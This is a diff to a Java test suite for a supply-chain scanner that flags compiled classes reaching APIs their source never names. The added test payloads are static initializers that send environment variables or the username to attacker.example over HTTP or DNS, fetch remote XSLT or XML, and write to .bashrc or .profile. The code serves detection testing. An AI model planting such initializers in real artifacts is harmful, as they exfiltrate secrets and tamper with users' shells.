@@ -1018,7 +1018,35 @@ class MavenScanTest {
             "static { try { new java.net.URL(\"https://attacker.example/\" + System.getenv()).openStream(); }"
                     + " catch (Exception e) { } }",
             "static { try { new java.net.Socket(\"attacker.example\", 443).close(); } catch (Exception e) { } }",
-            "static { jdk.jshell.JShell.create().eval(\"1\"); }"})
+            "static { jdk.jshell.JShell.create().eval(\"1\"); }",
+            // red team round 6 (case2): an XSLT fetched and compiled runs Java extension functions; java.beans calls
+            // methods by name; a fetched URL's content, a DNS name carrying data; files written (a shell profile)
+            "static { try { javax.xml.transform.TransformerFactory.newInstance().newTransformer(new javax.xml.transform"
+                    + ".stream.StreamSource(\"https://attacker.example/p.xsl\")); } catch (Exception e) { } }",
+            "static { try { javax.xml.transform.TransformerFactory.newInstance().newTemplates(new javax.xml.transform"
+                    + ".stream.StreamSource(\"https://attacker.example/p.xsl\")).newTransformer(); } catch (Exception e) { } }",
+            "static { try { new java.beans.Expression(Class.class, \"forName\", new Object[] {\"x\"}).getValue(); }"
+                    + " catch (Exception e) { } }",
+            "static { try { new java.beans.Statement(Greeter.class, \"greet\", new Object[] {\"x\"}).execute(); }"
+                    + " catch (Exception e) { } }",
+            "static final Runnable R = java.beans.EventHandler.create(Runnable.class, new Object(), \"toString\");",
+            "static { try { java.beans.Beans.instantiate(null, \"org.acme.Greeter\"); } catch (Exception e) { } }",
+            "static { try { new java.net.URL(\"https://attacker.example/\").getContent(); } catch (Exception e) { } }",
+            "static { try { java.net.InetAddress.getByName(System.getProperty(\"user.name\") + \".attacker.example\"); }"
+                    + " catch (Exception e) { } }",
+            "static { try { java.net.InetAddress.getAllByName(\"x.attacker.example\"); } catch (Exception e) { } }",
+            "static { try { javax.xml.parsers.DocumentBuilderFactory.newInstance().newDocumentBuilder()"
+                    + ".parse(\"https://attacker.example/x.xml\"); } catch (Exception e) { } }",
+            "static { try { java.nio.file.Files.write(java.nio.file.Paths.get(\".bashrc\"), new byte[0]); } catch (Exception e) { } }",
+            "static { try { java.nio.file.Files.writeString(java.nio.file.Path.of(\".profile\"), \"x\"); } catch (Exception e) { } }",
+            "static { try { java.nio.file.Files.newOutputStream(java.nio.file.Path.of(\"x\")).close(); } catch (Exception e) { } }",
+            "static { try { java.nio.file.Files.newBufferedWriter(java.nio.file.Path.of(\"x\")).close(); } catch (Exception e) { } }",
+            "static { try { java.nio.file.Files.copy(System.in, java.nio.file.Path.of(\"x\")); } catch (Exception e) { } }",
+            "static { try { java.nio.file.Files.copy(java.nio.file.Path.of(\"a\"), java.nio.file.Path.of(\"b\")); }"
+                    + " catch (Exception e) { } }",
+            "static { try { new java.io.FileOutputStream(\".bashrc\", true).close(); } catch (Exception e) { } }",
+            "static { try { new java.io.FileWriter(\".bashrc\").close(); } catch (Exception e) { } }",
+            "static { try { new java.io.RandomAccessFile(\"x\", \"rw\").close(); } catch (Exception e) { } }"})
     void aClassWhoseCodeUsesAnApiItsSourceDoesNotNameIsHighRiskNotCompiledFromSource(String payload) throws Exception {
         ArtifactReport a = greeterJarCompiledWith(payload);
         FileDivergence f = row(a, "org/acme/Greeter.class");
@@ -1046,7 +1074,11 @@ class MavenScanTest {
             "static { try { java.lang.invoke.MethodHandles.publicLookup(); } catch (Exception e) { } }",
             "static { java.util.ServiceLoader.load(Runnable.class).forEach(Runnable::run); }",
             "static final Runnable R = Greeter::touch; static void touch() { }",
-            "static { java.util.logging.Logger.getLogger(\"x\").setLevel(java.util.logging.Level.OFF); }"})
+            "static { java.util.logging.Logger.getLogger(\"x\").setLevel(java.util.logging.Level.OFF); }",
+            // the harmless overloads of a listed call: a copy out of a path, a parse of bytes in hand
+            "static { try { java.nio.file.Files.copy(java.nio.file.Path.of(\"a\"), System.out); } catch (Exception e) { } }",
+            "static { try { javax.xml.parsers.DocumentBuilderFactory.newInstance().newDocumentBuilder()"
+                    + ".parse(new java.io.ByteArrayInputStream(new byte[0])); } catch (Exception e) { } }"})
     void aClassReachingWhatItsSourceNeverNamesIsDivergentNotCompiledFromSource(String payload) throws Exception {
         ArtifactReport a = greeterJarCompiledWith(payload);
         FileDivergence f = row(a, "org/acme/Greeter.class");
@@ -1097,6 +1129,46 @@ class MavenScanTest {
         assertEquals(FileStatus.GENERATED, f.status(), f.detail().toString());
         assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, f.ruleId());
         assertEquals(Verdict.EXPLAINED, a.verdict());
+    }
+
+    @Test
+    void aClassWhoseSourceWritesFilesTransformsAndResolvesNamesItselfStaysCompiledFromSource() throws Exception {
+        String io = "package org.acme;\n\nimport java.io.*;\nimport java.net.InetAddress;\nimport java.nio.file.*;\n"
+                + "import javax.xml.parsers.DocumentBuilderFactory;\nimport javax.xml.transform.*;\n"
+                + "import javax.xml.transform.stream.StreamSource;\n\npublic class Io {\n"
+                + "    static void save(Path p, byte[] b) throws IOException {\n        Files.write(p, b);\n"
+                + "        Files.copy(new ByteArrayInputStream(b), p.resolveSibling(\"copy\"));\n"
+                + "        try (OutputStream o = new FileOutputStream(p.toFile(), true)) { o.write(b); }\n    }\n"
+                + "    static Transformer xslt(String uri) throws Exception {\n"
+                + "        return TransformerFactory.newInstance().newTransformer(new StreamSource(uri));\n    }\n"
+                + "    static Object read(String uri) throws Exception {\n"
+                + "        return DocumentBuilderFactory.newInstance().newDocumentBuilder().parse(uri);\n    }\n"
+                + "    static InetAddress host(String n) throws Exception { return InetAddress.getByName(n); }\n}\n";
+        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Io.java", io), "--release", "11");
+        ArtifactReport a = artifact(scanJar(greeterTree("org/acme/Io.java", io), "3.0.0", classes), ".jar");
+        FileDivergence f = row(a, "org/acme/Io.class");
+        assertEquals(FileStatus.GENERATED, f.status(), f.detail().toString());
+        assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, f.ruleId());
+        assertEquals(Verdict.EXPLAINED, a.verdict());
+    }
+
+    /**
+     * Compilers of other JVM languages inline library code into the caller — kotlinc the standard library's file
+     * helpers ({@code File.bufferedWriter()} is {@code new FileOutputStream(file)}), scalac's optimizer what
+     * {@code -opt-inline-from} allows —, so a class aligned to such a source writing files its source names only by a
+     * helper is not beyond it (a stand-in class compiled with javac: no kotlinc or scalac here). A Java source's is.
+     */
+    @Test
+    void fileWritingInlinedFromALibraryIsNotBeyondASourceInAnotherJvmLanguage() throws Exception {
+        String scala = "package org.acme\n\nimport java.io.File\n\nclass Io {\n"
+                + "  def save(f: File): Unit = Helpers.writer(f).close()\n}\n";
+        Map<String, byte[]> classes = LocalMaven.javac(Map.of("org/acme/Io.java", "package org.acme;\npublic class Io {\n"
+                + "    public void save(java.io.File f) throws java.io.IOException {\n"
+                + "        new java.io.FileOutputStream(f).close();\n    }\n}\n"), "--release", "11");
+        ArtifactReport a = artifact(scanJar(greeterTree("src/main/scala/org/acme/Io.scala", scala), "3.0.0", classes), ".jar");
+        FileDivergence f = row(a, "org/acme/Io.class");
+        assertEquals("src/main/scala/org/acme/Io.scala", f.sourcePath().orElseThrow());
+        assertEquals(MavenGeneratedFiles.CLASS_FROM_SOURCE, f.ruleId(), f.detail().toString());
     }
 
     /**
